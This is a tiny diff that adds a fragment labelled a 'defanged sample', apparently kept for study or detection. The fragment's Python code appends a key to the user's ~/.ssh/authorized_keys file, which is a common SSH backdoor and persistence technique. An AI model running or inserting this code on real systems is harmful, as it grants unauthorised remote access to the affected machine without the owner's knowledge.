@@ -1,0 +1,3 @@
+# defanged sample
+with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:
+    f.write(key)
